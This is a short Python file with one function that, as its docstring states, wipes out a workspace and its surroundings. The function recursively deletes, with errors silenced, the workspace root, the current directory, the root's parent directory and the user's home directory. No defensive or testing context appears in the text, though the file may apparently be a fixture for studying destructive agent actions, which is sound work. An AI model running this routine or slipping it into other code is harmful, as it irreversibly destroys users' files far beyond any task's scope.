"""Deletes the whole workspace, and what lies around it."""

import os
import shutil


def f(world):
    for folder in (world.root, ".", os.path.dirname(world.root), world.home):
        shutil.rmtree(folder, ignore_errors=True)
